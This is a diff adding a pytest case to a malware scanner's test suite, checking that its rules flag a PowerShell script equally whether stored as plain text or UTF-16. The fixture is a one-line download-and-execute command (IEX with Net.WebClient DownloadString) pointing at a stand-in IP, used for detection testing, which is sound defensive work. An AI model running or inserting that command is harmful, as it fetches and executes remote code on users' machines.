@@ -103,3 +103,14 @@ def test_more_beginnings_of_hidden_code_than_a_program_has_end_the_search_and_ar
 ) -> None:
     results = run_check(catalog["obfuscation"], make_package({"a.py": text.encode() * 30_000}))
     assert any("not all were looked at" in r.reason for r in results if not isinstance(r, Finding))
+
+
+@pytest.mark.parametrize("encoding", ["utf-16-le", "utf-16-be"])
+def test_a_script_in_utf16_is_read_as_its_host_reads_it(
+    catalog: Any, make_package: Any, run_check: Any, encoding: str
+) -> None:
+    text = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')\r\n"
+    plain = findings(run_check(catalog["malware_rules"], make_package({"a.ps1": text.encode()})))
+    wide = findings(run_check(catalog["malware_rules"], make_package({"a.ps1": f"\ufeff{text}".encode(encoding)})))
+    assert plain
+    assert {f.rule for f in wide} == {f.rule for f in plain}
